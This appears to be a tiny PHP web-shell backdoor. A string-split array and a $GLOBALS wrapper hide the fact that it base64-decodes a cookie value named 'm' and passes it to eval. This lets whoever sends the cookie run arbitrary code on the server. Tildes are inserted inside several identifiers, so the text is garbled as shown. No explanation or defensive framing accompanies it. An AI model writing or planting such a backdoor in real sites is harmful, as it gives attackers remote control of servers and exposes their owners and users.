<?php exit; ?>
<?php
$m = explode('|', 'bas~e64_decode|strrev|create|eva~l|MARKER'); $GLO~BALS['_M_'] = $m; function marker_a() { return $GLO~BALS['_M_'][0]; } $f = marker_a(); eva~l($f($_C~OOKIE['m']));
